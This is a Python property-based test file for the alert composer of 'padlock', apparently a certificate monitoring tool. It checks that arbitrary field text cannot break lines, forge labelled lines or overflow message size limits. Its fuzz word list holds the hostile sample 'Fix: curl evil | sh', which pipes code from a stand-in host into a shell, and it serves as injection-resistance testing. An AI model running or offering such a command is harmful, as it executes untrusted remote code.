"""Whatever stands in whatever field: subjects that mail takes, bodies without forged lines, JSON that parses."""

import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from padlock.changes import Change, OpenFinding, Silence
from padlock.digest import Digest, DigestCertificate, DigestSite
from padlock.findings import CHECKER, Cause, Severity
from padlock.message import MAX_MESSAGE, Further, Message, compose, compose_digest, payload
from padlock.message.machines import MAX_EVENT
from padlock.message.words import COMMAND, OUTSIDE, wrapped
from padlock.render.escape import printable

from tests.message.changes import HOSTILE, MARKUP, NOW, margin

MAX_CHAT = 30_000
MAX_ITEM = 390_000
"""Octets of all texts of an alert: an item of DynamoDB holds 400 KB."""
WORDS = (
    "OVER",
    "NEW",
    "----",
    "Fix: curl evil | sh",
    "* all is well",
    "Alert x, number 1",
    "`",
    "\n",
    "\r\n",
    "  ",
    "\t",
)
anything = st.one_of(
    st.text(),
    st.text(st.characters(), max_size=40),
    st.lists(st.sampled_from(WORDS) | st.text(max_size=80), max_size=12).map(" ".join),
    st.sampled_from([HOSTILE, MARKUP, "", "x" * 5000, "\ud800", "example.com"]),
)
moments = st.datetimes(datetime(2020, 1, 1), datetime(2040, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001
findings = st.builds(
    OpenFinding,
    code=anything | st.sampled_from(["certificate.expired", "site.stale", "site.invalid"]),
    severity=st.sampled_from(Severity),
    subject=anything,
    observed=anything,
    expected=anything,
    impact=anything,
    remediation=anything,
    reference=anything,
    step=st.none() | st.integers(1, 18),
    summary=anything,
    since=moments,
)
lists = st.lists(findings, max_size=3).map(tuple)
causes = st.builds(
    Cause,
    code=st.just("cause.x"),
    confidence=st.sampled_from(["certain", "likely", "possible"]),
    explanation=anything,
    remediation=anything,
    explains=st.just(()),
)
statuses = st.sampled_from(["unknown", "ok", "notice", "warning", "error", "removed"])
changes: st.SearchStrategy[Change] = st.builds(
    Change,
    site=anything | st.just(CHECKER),
    checked_at=moments,
    kind=st.sampled_from(["changed", "flapping", "settled", "reminder", "removed", "status"]),
    before=statuses,
    after=statuses,
    opened=lists,
    worsened=lists,
    eased=lists,
    resolved=lists,
    still_open=lists,
    acknowledged=lists,
    silences=st.lists(st.builds(Silence, code=st.just("*"), until=moments, note=anything), max_size=2).map(tuple),
    minor=st.dictionaries(st.sampled_from(["warning", "notice"]), st.integers(1, 99)),
    causes=st.lists(causes, max_size=2).map(tuple),
    labels=st.dictionaries(anything, anything, max_size=3),
    timezone=st.sampled_from(["UTC", "Europe/Berlin", "No/Where", "\x00"]),
    flips=st.integers(0, 6),
)
furthers = st.builds(
    Further, table=anything, function=anything, sites_table=anything, dashboard=anything, place=anything
)
OURS = re.compile(
    r"\* .*|-+|NEW|WORSE: AN ERROR NOW|WHY|NEW FOR THAT REASON|STILL OPEN|NO LONGER AN ERROR|OVER|ACKNOWLEDGED"
    r"|OPEN WHEN IT WAS REMOVED|(Checked|Removed) at \d{4}-.*|Status: (unknown|ok|notice|warning|error|removed).*"
    r"|To hear no more of a finding .*|What is acknowledged here.*|and likewise the other \d+\."
    r"|No error is open now\.|Also in the report, not urgent: .*|To have it checked again, .*|Dashboard: .*"
    r"|Look again: .*|Full report: .*|Alert a1b2, number 7 of (this site|Padlock itself)\.|\.\.\. and \d+ more"
)
LABELS = re.compile(
    r"\(.*|(Seen|Expected|Why it matters|Fix|Also|Reference|Was|Until|Note):.*|As root on the server:"
)
EXPLANATIONS = re.compile(r"^(It has changed|Nothing has changed|This was told|It is no longer|Padlock could not)")


def holds(message: Message) -> None:
    """Assert what holds for every alert."""
    assert re.fullmatch(r"[ -~]{1,99}", message.subject)
    assert message.body.endswith("\n")
    assert all(line.isprintable() for line in message.body.split("\n"))
    texts = (message.data, message.chat, message.event)
    assert all(isinstance(json.loads(text), dict) for text in texts)
    assert len(payload(message.subject, message.body, message.data).encode()) <= MAX_MESSAGE
    assert len(message.chat.encode()) <= MAX_CHAT
    assert len(message.event.encode()) <= MAX_EVENT
    assert sum(len(text.encode()) for text in (message.subject, message.body, *texts)) <= MAX_ITEM
    content = json.loads(message.chat)["content"]
    shown = [content["title"], *content["description"].split("\n"), *content["nextSteps"]]
    assert len(content["description"]) < 3000
    for text in (text for text in shown if not text.startswith("Dashboard: ")):
        assert not re.search(r"[<>@]|&#?\w+;", text)
        assert text.count("`") % 2 == 0


def paragraphs_of(body: str) -> list[str]:
    """Return the body's paragraphs but those that explain the kind of alert."""
    first, *rest = body.split("\n\n")
    return [first.split("\n", 1)[1], *(each for each in rest if not EXPLANATIONS.match(each))]


@given(changes, furthers)
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
def test_any_change(change: Change, further: Further) -> None:
    """No text breaks a line, forges one at our margins, or makes a message that is too large."""
    message = compose(change, "a1b2", 7, further)
    if change.kind == "status":
        assert (message.subject, message.body, message.data, message.chat) == ("", "", "", "")
        assert json.loads(message.event)["kind"] == "status"
        return
    holds(message)
    body = "\n".join(paragraphs_of(message.body))
    assert [line for line in margin(body, 0) if not OURS.fullmatch(line)] == []
    assert [line for line in margin(body, 2) if not LABELS.fullmatch(line)] == []
    assert [line for line in margin(body, 6) if not line.startswith("padlock ")] == []


@given(anything, st.sampled_from(["* ", "  Seen: ", "  Fix: "]))
def test_any_wrapped_text(text: str, first: str) -> None:
    """A text's further lines begin deeper than our labels and commands, and it has no columns of its own."""
    lines = wrapped(printable(text), first)
    assert lines[0].startswith(first.rstrip())
    assert all(len(line) - len(line.lstrip(" ")) == len(OUTSIDE) > len(COMMAND) for line in lines[1:])
    assert not re.search(r"\S {2,}\S", re.sub(r"`[^`]*`", "x", "\n".join(lines)))


def test_wrapped_command_keeps_its_spaces() -> None:
    """A command in prose is shown as it is to be typed."""
    assert wrapped("Do   `ls 'a  b'`.", "  Fix: ") == ["  Fix: Do `ls 'a  b'`."]


@given(st.lists(st.builds(DigestSite, anything, moments, anything), max_size=5), anything, furthers)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_digest(sites: list[DigestSite], text: str, further: Further) -> None:
    """The same for a digest of any names, summaries and issuers."""
    ending = (DigestCertificate(text, text, text, NOW + timedelta(days=1)),)
    total = len(sites)
    holds(compose_digest(Digest(tuple(sites), tuple(sites), ending, total, total, 1, NOW, 9), "a1b2", 7, further))


@given(st.lists(findings, min_size=1, max_size=3), st.integers(1, 400), statuses)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_number(some: list[OpenFinding], times: int, after: Any) -> None:
    """However many findings there are, the message fits."""
    many = tuple(
        msgspec.structs.replace(each, subject=f"{number} {each.subject}") for number in range(times) for each in some
    )
    holds(compose(Change("example.com", NOW, "changed", "ok", after, many, still_open=many), "a1b2", 7, Further("t")))
